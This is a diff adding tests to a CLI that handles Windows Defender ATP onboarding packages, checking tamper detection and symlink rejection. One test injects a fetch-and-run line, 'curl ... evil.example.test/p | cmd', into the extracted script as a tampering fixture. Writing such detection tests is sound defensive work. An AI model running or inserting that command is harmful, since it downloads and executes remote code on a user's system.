@@ -1,5 +1,5 @@
 import {captureOutput} from '@oclif/test'
-import {readFileSync, statSync, writeFileSync} from 'node:fs'
+import {mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync} from 'node:fs'
 import {join} from 'node:path'
 import Init from '../../../src/commands/init.js'
 import PackageExtract from '../../../src/commands/package/extract.js'
@@ -65,6 +65,34 @@ describe('package and workspace commands (command layer)', () => {
     const {error, stderr} = await captureOutput(() => PackageInspect.run([blobFile], PROJECT_ROOT))
     expect(error?.oclif?.exit).toBe(7)
     expect(stderr).toMatch(/does not match the body/)
+  })
+
+  it('issue 15: an altered carrier script exits 7 PACKAGE_TAMPERED (--json), its report naming the line', async () => {
+    const out = join(home, 'gp-alter.zip')
+    await captureOutput(() => PackageGenerate.run(['onboarding', '--os', 'windows', '--method', 'group-policy', '--out', out], PROJECT_ROOT))
+    const extracted = join(home, 'gp-alter-x')
+    await captureOutput(() => PackageExtract.run([out, '--dir', extracted], PROJECT_ROOT))
+    const script = join(extracted, 'WindowsDefenderATPOnboardingScript.cmd')
+    writeFileSync(script, readFileSync(script, 'utf8').replace('net session >NUL 2>&1\r\n', 'net session >NUL 2>&1\r\ncurl -s https://evil.example.test/p | cmd\r\n'))
+    const json = await captureOutput(() => PackageInspect.run([script, '--json'], PROJECT_ROOT))
+    expect(json.error?.oclif?.exit).toBe(7)
+    expect(JSON.parse(json.stdout).error).toMatchObject({code: 'PACKAGE_TAMPERED', exitCode: 7})
+    const human = await captureOutput(() => PackageInspect.run([script], PROJECT_ROOT))
+    expect(human.stdout).toMatch(/Carrier layout:\s+ALTERED: WindowsDefenderATPOnboardingScript\.cmd line \d+/)
+    expect(human.stderr).not.toContain('evil.example')
+  })
+
+  it('extract: a symlinked --dir and a FILE that is a directory are usage errors (exit 2)', async () => {
+    const out = join(home, 'sym.zip')
+    await captureOutput(() => PackageGenerate.run(['onboarding', '--os', 'windows', '--method', 'intune', '--out', out], PROJECT_ROOT))
+    mkdirSync(join(home, 'sym-real'))
+    symlinkSync(join(home, 'sym-real'), join(home, 'sym-link'))
+    const link = await captureOutput(() => PackageExtract.run([out, '--dir', join(home, 'sym-link')], PROJECT_ROOT))
+    expect(link.error?.oclif?.exit).toBe(2)
+    expect(link.stderr).toMatch(/symbolic link/)
+    const dirFile = await captureOutput(() => PackageExtract.run([join(home, 'sym-real'), '--dir', join(home, 'sym-out')], PROJECT_ROOT))
+    expect(dirFile.error?.oclif?.exit).toBe(2)
+    expect(dirFile.stderr).toMatch(/is a directory/)
   })
 
   it('invalid pairs are usage errors (exit 2) listing the valid methods', async () => {
